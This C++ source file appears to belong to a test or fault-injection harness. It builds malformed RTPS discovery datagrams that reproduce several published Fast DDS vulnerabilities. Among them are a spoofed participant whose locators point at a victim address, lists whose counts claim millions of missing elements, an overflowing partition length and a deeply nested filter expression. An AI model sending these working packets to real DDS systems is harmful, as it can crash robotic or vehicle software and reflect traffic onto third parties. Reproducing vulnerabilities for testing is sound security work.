// Published faults of Fast DDS in what participants announce. Anybody can announce a participant and its
// endpoints.
#include <string>

#include "faults/Datagrams.h"

namespace Faults
{

using namespace RtpsBytes;

namespace
{

// Parameters that Fast DDS alone has.
constexpr std::uint16_t DataSharing = 0x8006;
constexpr std::uint16_t EndpointSettings = 0x8010;
// A million, of elements that are not there.
constexpr std::uint32_t Million = 0x100000;

Bytes Endpoint(EntityId announcer, EntityId endpoint, const Bytes &more)
{
    return Message(
        Data,
        DataBody(1,
                 List({Parameter(0x0016, {1, 15, 0, 0}), Parameter(0x005a, Guid(Sender, endpoint)),
                       Parameter(0x0005, Text("Pose")), Parameter(0x0007, Text("Uav::Pose")), more}),
                 announcer),
        HasData);
}

Bytes WriterWith(const Bytes &more)
{
    return Endpoint(PublicationsWriter, UserWriter, more);
}

}  // namespace

// All addresses are those of a host that has sent nothing: whoever hears the announcement sends to that host,
// for a day.
Bytes ParticipantAtAnothersAddress()
{
    const Bytes victim = Join({U32(1), U32(9), Bytes(12), {10, 0, 0, 99}});
    return Message(Data,
                   DataBody(1,
                            List({Parameter(0x0015, {2, 3, 0, 0}), Parameter(0x0016, {1, 15, 0, 0}),
                                  Parameter(0x0050, Guid(Sender, ParticipantEntity)),
                                  Parameter(0x0002, Join({U32(86'400), U32(0)})), Parameter(0x0032, victim),
                                  Parameter(0x0031, victim), Parameter(0x0058, U32(BuiltinEndpoints))}),
                            ParticipantWriter),
                   HasData);
}

// The list of data representations says that it has a million, in 4 bytes.
Bytes RepresentationsThatAreNotThere()
{
    return WriterWith(Parameter(0x0073, Join({U32(Million), U16(2), U16(0)})));
}

// The list of domains for data sharing says that it has a million, in 12 bytes.
Bytes DomainsThatAreNotThere()
{
    return WriterWith(Parameter(DataSharing, Join({U32(Million), Bytes(12, 0x62)})));
}

// The first list of addresses in the settings of the endpoint says that it has a million, in 28 bytes.
Bytes AddressesThatAreNotThere()
{
    return WriterWith(Parameter(EndpointSettings, Join({U32(Million), Bytes(28)})));
}

// The list says that it has 2^29 properties and has one, whose name and value have no bytes at all.
Bytes EmptyPropertiesThatAreNotThere()
{
    return Message(
        Data, DataBody(2, Announced(Parameter(0x0059, Join({U32(0x20000000), Bytes(8)}))), ParticipantWriter),
        HasData);
}

// The description of a type begins with a DHEADER of 4096 bytes, in a parameter of 16.
Bytes TypesBehindTheirParameter()
{
    return WriterWith(Parameter(0x0075, Join({U32(4096), U32(0x40001001), Bytes(8)})));
}

// The length of the partition's name, added to its position, is a small number.
Bytes PartitionLongerThanItsList()
{
    return WriterWith(Parameter(0x0029, Join({U32(1), U32(0xfffffff8), Bytes(8, 'x')})));
}

// The expression of the filter has thousands of parentheses, which the vendor descends into.
Bytes ReaderWithANestedFilter()
{
    constexpr std::size_t Depth = 8000;
    const std::string expression = std::string(Depth, '(') + "x = 1" + std::string(Depth, ')');
    return Endpoint(SubscriptionsWriter, UserReader,
                    Parameter(0x0035, Join({Text("Filtered"), Text("Pose"), Text("DDSSQL"),
                                            Text(expression.c_str()), U32(0)})));
}

std::vector<Fault> FastDdsAnnouncementFaults()
{
    const auto of = [](const char *name, std::vector<Bytes> datagrams)
    { return Fault{.Name = name, .Vendor = "fastdds", .Datagrams = std::move(datagrams)}; };
    return {
        of("CVE-2021-38425", {ParticipantAtAnothersAddress()}),
        of("CVE-2026-49861", {Announcement(), RepresentationsThatAreNotThere(), DomainsThatAreNotThere()}),
        of("CVE-2026-53589", {Announcement(), AddressesThatAreNotThere()}),
        of("CVE-2026-53590", {EmptyPropertiesThatAreNotThere()}),
        of("CVE-2026-49863", {Announcement(), TypesBehindTheirParameter()}),
        of("GHSA-8g7x-c9fg-g6mh", {Announcement(), PartitionLongerThanItsList()}),
        of("CVE-2026-22591", {Announcement(), ReaderWithANestedFilter()}),
    };
}

}  // namespace Faults
